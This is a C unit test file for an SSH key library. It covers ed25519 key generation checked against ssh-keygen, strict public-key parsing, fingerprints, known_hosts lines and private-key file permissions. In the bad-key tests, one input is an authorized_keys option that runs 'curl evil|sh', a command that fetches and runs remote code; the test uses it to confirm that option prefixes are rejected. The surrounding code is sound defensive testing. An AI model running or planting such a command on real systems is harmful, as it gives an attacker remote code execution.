/* Keys: generation (checked with ssh-keygen), strict public key parsing, fingerprints,
 * known_hosts lines and private key files. */
#include "tap.h"
#include "test_tunnel_sshd.h"

#include "classlab/banned.h"

static char *fixture(const char *name)
{
	char *path = cl_aprintf("%s/ssh/%s", CL_TEST_DATA, name);
	cl_buf b = CL_BUF_INIT;
	if (cl_read_file(path, 1 << 20, &b) < 0) {
		fprintf(stderr, "# cannot read %s\n", path);
		free(path);
		return cl_strdup("");
	}
	free(path);
	return cl_buf_detach(&b);
}

static char *trim_nl(char *s)
{
	size_t n = strlen(s);
	while (n > 0 && (s[n - 1] == '\n' || s[n - 1] == '\r'))
		s[--n] = '\0';
	return s;
}

static void test_keygen(void)
{
	char *priv = NULL, *pub = NULL, *fp = NULL, *type = NULL, *b64 = NULL, *comment = NULL;
	CHECK_INT(cl_ssh_keygen_ed25519(&priv, &pub, "alice@ml-lab"), 0);
	CHECK(strncmp(priv, "-----BEGIN OPENSSH PRIVATE KEY-----\n", 36) == 0);
	CHECK(strncmp(pub, "ssh-ed25519 AAAA", 16) == 0);
	CHECK_INT(cl_ssh_pubkey_parse(pub, &type, &b64, &comment), 0);
	CHECK_STR(type, "ssh-ed25519");
	CHECK_STR(comment, "alice@ml-lab");

	char dirt[] = "/tmp/cl-keys-XXXXXX";
	CHECK(mkdtemp(dirt) != NULL);
	chmod(dirt, 0700);
	char *kpath = cl_path_join(dirt, "id_ed25519");
	char *pubpath = cl_path_join(dirt, "id_ed25519.pub");
	CHECK_INT(cl_ssh_write_private_key(kpath, priv), 0);
	struct stat st;
	CHECK(stat(kpath, &st) == 0 && (st.st_mode & 0777) == 0600);
	char *publine = cl_aprintf("%s\n", pub);
	test_write_text(pubpath, publine, 0644);

	/* Fingerprint exactly as ssh-keygen -lf prints it. */
	CHECK_INT(cl_ssh_fingerprint(pub, &fp), 0);
	char *cmd = cl_aprintf("ssh-keygen -lf %s | cut -d' ' -f2", pubpath);
	char *want = trim_nl(test_run(cmd, NULL));
	CHECK_STR(fp, want);
	free(cmd);
	free(want);

	/* The private key loads in stock OpenSSH and gives the same public key. */
	int status = -1;
	cmd = cl_aprintf("ssh-keygen -y -f %s", kpath);
	char *derived = trim_nl(test_run(cmd, &status));
	CHECK_INT(status, 0);
	char *want_pub = cl_aprintf("ssh-ed25519 %s", b64);
	CHECK(strncmp(derived, want_pub, strlen(want_pub)) == 0);
	free(want_pub);
	free(derived);
	free(cmd);

	/* Overwriting keeps 0600; a symlink and a group-readable directory are refused. */
	CHECK_INT(cl_ssh_write_private_key(kpath, priv), 0);
	CHECK(stat(kpath, &st) == 0 && (st.st_mode & 0777) == 0600);
	char *link = cl_path_join(dirt, "link");
	CHECK(symlink(pubpath, link) == 0);
	CHECK_INT(cl_ssh_write_private_key(link, priv), CL_EINVAL);
	CHECK(strstr(cl_error_msg(), "symlink") != NULL);
	chmod(dirt, 0750);
	CHECK_INT(cl_ssh_write_private_key(kpath, priv), CL_EINVAL);
	CHECK(strstr(cl_error_msg(), "chmod 700") != NULL);
	chmod(dirt, 0700);
	char *missing = cl_path_join(dirt, "nope/key");
	CHECK(cl_ssh_write_private_key(missing, priv) < 0);

	/* Two keys differ. */
	char *priv2 = NULL, *pub2 = NULL;
	CHECK_INT(cl_ssh_keygen_ed25519(&priv2, &pub2, NULL), 0);
	CHECK(strcmp(pub, pub2) != 0);
	CHECK_INT(cl_ssh_pubkey_parse(pub2, NULL, NULL, NULL), 0);
	CHECK_INT(cl_ssh_keygen_ed25519(&priv2, &pub2, "bad\ncomment"), CL_EINVAL);

	cmd = cl_aprintf("rm -rf %s", dirt);
	free(test_run(cmd, NULL));
	free(cmd);
	free(missing);
	free(link);
	free(publine);
	free(kpath);
	free(pubpath);
	cl_ssh_free_secret(priv2);
	free(pub2);
	cl_ssh_free_secret(priv);
	free(pub);
	free(fp);
	free(type);
	free(b64);
	free(comment);
}

static void test_good_keys(void)
{
	static const struct {
		const char *file, *type;
	} good[] = {
		{"key_ed25519_256.pub", "ssh-ed25519"},
		{"key_rsa_2048.pub", "ssh-rsa"},
		{"key_rsa_3072.pub", "ssh-rsa"},
		{"key_ecdsa_256.pub", "ecdsa-sha2-nistp256"},
		{"key_ecdsa_384.pub", "ecdsa-sha2-nistp384"},
		{"key_ecdsa_521.pub", "ecdsa-sha2-nistp521"},
		{"key_sk_ed25519.pub", "sk-ssh-ed25519@openssh.com"},
		{"key_sk_ecdsa.pub", "sk-ecdsa-sha2-nistp256@openssh.com"},
	};
	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++) {
		char *line = fixture(good[i].file);
		char *type = NULL, *b64 = NULL, *comment = NULL, *fp = NULL;
		int rc = cl_ssh_pubkey_parse(line, &type, &b64, &comment);
		if (rc != 0)
			fprintf(stderr, "# %s: %s\n", good[i].file, cl_error_msg());
		CHECK_INT(rc, 0);
		CHECK_STR(type, good[i].type);
		CHECK(comment && strncmp(comment, "good-", 5) == 0);
		/* Without its newline too, and fingerprints agree with ssh-keygen. */
		trim_nl(line);
		CHECK_INT(cl_ssh_pubkey_parse(line, NULL, NULL, NULL), 0);
		CHECK_INT(cl_ssh_fingerprint(line, &fp), 0);
		char *cmd = cl_aprintf("ssh-keygen -lf %s/ssh/%s | cut -d' ' -f2", CL_TEST_DATA,
				       good[i].file);
		char *want = trim_nl(test_run(cmd, NULL));
		CHECK_STR(fp, want);
		free(want);
		free(cmd);
		free(fp);
		free(type);
		free(b64);
		free(comment);
		free(line);
	}
}

static void expect_bad(const char *line, const char *why_part)
{
	int rc = cl_ssh_pubkey_parse(line, NULL, NULL, NULL);
	CHECK_INT(rc, CL_EINVAL);
	const char *msg = cl_error_msg();
	CHECK(strncmp(msg, "invalid SSH public key: ", 24) == 0);
	if (why_part && !strstr(msg, why_part)) {
		fprintf(stderr, "# message '%s' lacks '%s'\n", msg, why_part);
		CHECK(0);
	}
}

static void test_bad_keys(void)
{
	char *ed = trim_nl(fixture("key_ed25519_256.pub"));
	char *type = NULL, *b64 = NULL;
	CHECK_INT(cl_ssh_pubkey_parse(ed, &type, &b64, NULL), 0);

	expect_bad("", "empty");
	expect_bad(NULL, "empty");
	expect_bad("hello world this is not a key", "unknown key type 'hello'");
	expect_bad("ssh-ed25519 notbase64!!", "base64");
	expect_bad("ssh-ed25519", "no key data");
	expect_bad("ssh-dss AAAAB3NzaC1kc3MAAACBAP", "unknown key type");

	/* truncated */
	char *trunc = cl_aprintf("ssh-ed25519 %.*s", (int)strlen(b64) - 8, b64);
	expect_bad(trunc, NULL);
	free(trunc);
	/* right data, wrong type */
	char *mixed = cl_aprintf("ssh-rsa %s", b64);
	expect_bad(mixed, "does not match the key type");
	free(mixed);
	/* RSA 1024 */
	char *weak = fixture("bad_rsa_1024.pub");
	expect_bad(weak, "1024 bits");
	free(weak);
	/* newline / CR embedded */
	char *nl = cl_aprintf("ssh-ed25519 %s\nssh-ed25519 %s", b64, b64);
	expect_bad(nl, "line break");
	free(nl);
	char *cr = cl_aprintf("ssh-ed25519 %s evil\rcomment", b64);
	expect_bad(cr, "line break");
	free(cr);
	char *mid = cl_aprintf("ssh-ed25519 %.10s\n%s", b64, b64 + 10);
	expect_bad(mid, "line break");
	free(mid);
	/* options prefix */
	char *opt = cl_aprintf("command=\"/bin/sh -c 'curl evil|sh'\" ssh-ed25519 %s x", b64);
	expect_bad(opt, "options");
	free(opt);
	char *opt2 = cl_aprintf("no-pty,from=\"*\" %s", ed);
	expect_bad(opt2, "options");
	free(opt2);
	/* 100 KB */
	cl_buf big = CL_BUF_INIT;
	cl_buf_puts(&big, "ssh-ed25519 ");
	for (int i = 0; i < 100 * 1024; i++)
		cl_buf_putc(&big, 'A');
	expect_bad(cl_buf_str(&big), "16 KiB");
	cl_buf_free(&big);
	/* NUL-free binary junk */
	char junk[512];
	srand(7);
	for (size_t i = 0; i < sizeof(junk) - 1; i++)
		junk[i] = (char)(1 + rand() % 255);
	junk[sizeof(junk) - 1] = '\0';
	expect_bad(junk, NULL);
	/* high bytes but no controls */
	expect_bad("\xc3\xa9\xc3\xa9 AAAA", "unknown key type");
	/* trailing junk inside the blob: valid base64, bytes after the key */
	{
		size_t n = strlen(b64);
		char *padded = cl_aprintf("ssh-ed25519 %.*sAAAAAA==", (int)n - 1, b64);
		expect_bad(padded, NULL);
		free(padded);
	}
	/* certificates are not plain keys */
	expect_bad("ssh-ed25519-cert-v01@openssh.com AAAA", "unknown key type");
	/* a trailing CRLF is tolerated (a key pasted from a Windows file) */
	char *crlf = cl_aprintf("%s\r\n", ed);
	CHECK_INT(cl_ssh_pubkey_parse(crlf, NULL, NULL, NULL), 0);
	free(crlf);

	free(type);
	free(b64);
	free(ed);
}

static void test_known_hosts(void)
{
	char *ed = trim_nl(fixture("key_ed25519_256.pub"));
	char *b64 = NULL, *line = NULL;
	CHECK_INT(cl_ssh_pubkey_parse(ed, NULL, &b64, NULL), 0);
	CHECK_INT(cl_ssh_known_hosts_line("127.0.0.1", 2222, ed, &line), 0);
	char *want = cl_aprintf("[127.0.0.1]:2222 ssh-ed25519 %s", b64);
	CHECK_STR(line, want);
	free(want);
	free(line);
	CHECK_INT(cl_ssh_known_hosts_line("ml-lab-alice", 22, ed, &line), 0);
	want = cl_aprintf("ml-lab-alice ssh-ed25519 %s", b64);
	CHECK_STR(line, want);
	free(want);
	free(line);
	CHECK_INT(cl_ssh_known_hosts_line("evil host", 22, ed, &line), CL_EINVAL);
	CHECK_INT(cl_ssh_known_hosts_line("h", 0, ed, &line), CL_EINVAL);
	CHECK_INT(cl_ssh_known_hosts_line("h", 22, "ssh-ed25519 junk", &line), CL_EINVAL);
	free(b64);
	free(ed);
}

int main(void)
{
	test_keygen();
	test_good_keys();
	test_bad_keys();
	test_known_hosts();
	return tap_done();
}
